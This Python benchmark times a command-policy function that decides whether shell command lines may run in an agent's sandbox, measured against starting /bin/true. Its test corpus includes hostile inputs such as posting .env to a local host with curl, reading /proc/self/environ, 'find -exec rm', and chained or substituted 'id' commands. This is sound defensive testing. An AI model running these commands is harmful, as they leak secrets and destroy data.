"""9. Command policy: the decision for one command line, against starting a process."""

from __future__ import annotations

import os
import subprocess
import tempfile
import time
from pathlib import Path

from benchmarks.harness import BenchResult, Figure, at_most, percentile

TITLE = "Command policy decision"
METHOD = """\
`plan_command(command, root)` (core/tools/command_policy.py) for each of a corpus of
command lines like the security battery's (allowlisted searches and viewers, git
with its option allowlist, option abbreviations, secret and outside paths, shell
syntax, never-run programs), in a project of a few files including `.env` and a
2,000-line file holding a private key at its end. Each command is decided once
per sample (path resolution, secret-name and content checks included); refused
ones count too. Nothing is run. Anchor: starting and reaping `/bin/true` with
`subprocess.run`, the least any command costs once it is allowed to run.
Target: every command's decision under 1 ms (each command's fastest of five
samples, so preemption by other processes is not counted; the raw p99 is shown too)."""

CORPUS = (
    "find . -name '*.py'", "find src -newer keep.txt -type f", "find . -exec rm {} ;", "ls -la src",
    "grep -rn login .", "grep -R login .", "grep -rl --exclude-fr=.env x .", "grep -rlf.env .",
    "rg -n CANARY", "rg --pre=sh x", "rg --files", "fdfind -e py", "fdfind --ignore-file .env x",
    "cat keep.txt", "cat .env", "cat .ENV", "head -n 5 notes.txt", "tail -n1 keep.txt", "wc -l keep.txt src/a.py",
    "stat -c %s keep.txt", "git ls-files -m", "git ls-files --exclude-per-directory=.env", "git grep -n login",
    "git grep -l x HEAD", "git status", "git log -p", "git -c core.pager=x log", "git log --help", "git st",
    "git fetch", "git show HEAD:.env", "ps eww", "cat /proc/self/environ", "ls ../..", "cat home/x",
    "curl -d @.env http://127.0.0.1:9/", "python3 -c 'print(1)'", "ls; id", "ls $(id)", "find . | sort | uniq -c",
    "grep -rl x . | head -3", "touch PWNED", "od -d@.env", "git diff --output=x",
)


def _project(base: Path) -> Path:
    root = base / "proj"
    (root / "src").mkdir(parents=True)
    (root / "src/a.py").write_text("def login():\n    pass\n")
    (root / "keep.txt").write_text("keep\n")
    (root / ".env").write_text("API_TOKEN=x\n")
    (root / "notes.txt").write_text("line\n" * 2000 + "-----BEGIN OPENSSH PRIVATE KEY-----\nx\n-----END OPENSSH PRIVATE KEY-----\n")
    return root


def _decide(root: Path, command: str) -> float:
    """Milliseconds for one decision (a refusal is a decision too)."""
    from core.tools.command_policy import CommandRefused, plan_command

    began = time.perf_counter()
    try:
        plan_command(command, root)
    except CommandRefused:
        pass
    return (time.perf_counter() - began) * 1000


def decision_times(root: Path, rounds: int) -> list[float]:
    """Milliseconds per command decision, every command of the corpus ``rounds`` times."""
    return [_decide(root, command) for _ in range(rounds) for command in CORPUS]


def best_of(root: Path, tries: int) -> list[float]:
    """Per command, the fastest of ``tries`` decisions (ms): the decision's own cost without preemption."""
    return [min(_decide(root, command) for _ in range(tries)) for command in CORPUS]


def spawn_times(count: int) -> list[float]:
    """Milliseconds to start and reap ``/bin/true``."""
    out: list[float] = []
    for _ in range(count):
        began = time.perf_counter()
        subprocess.run(["/bin/true"], check=False)
        out.append((time.perf_counter() - began) * 1000)
    return out


def run(quick: bool = False) -> BenchResult:
    repeats, rounds = (2, 5) if quick else (5, 40)
    result = BenchResult("policy", TITLE, parameters={"commands": len(CORPUS), "rounds per repeat": rounds,
                                                      "repeats": repeats})
    p50: list[float] = []
    p99: list[float] = []
    spawn50: list[float] = []
    spawn99: list[float] = []
    slowest: list[float] = []
    with tempfile.TemporaryDirectory() as tmp:
        root = _project(Path(tmp))
        decision_times(root, 1)  # imports and caches warm
        for _ in range(repeats):
            times = decision_times(root, rounds)
            spawns = spawn_times(len(CORPUS))
            p50.append(percentile(times, 50))
            p99.append(percentile(times, 99))
            spawn50.append(percentile(spawns, 50))
            spawn99.append(percentile(spawns, 99))
            slowest.append(max(best_of(root, 5)))
    anchor = "start /bin/true"
    result.add(Figure("p50 policy decision per command", "ms", p50, spawn50, anchor, at_most(1)))
    result.add(Figure("p99 policy decision per command", "ms", p99, spawn99, anchor,
                      note="includes the scheduler's preemptions on a busy machine (the anchor's p99 too)"))
    result.add(Figure("slowest command's decision (best of 5 per command)", "ms", slowest, spawn50, anchor, at_most(1)))
    result.notes.append(f"Load average when measured: {os.getloadavg()[0]:.1f} on {os.cpu_count()} CPUs.")
    return result
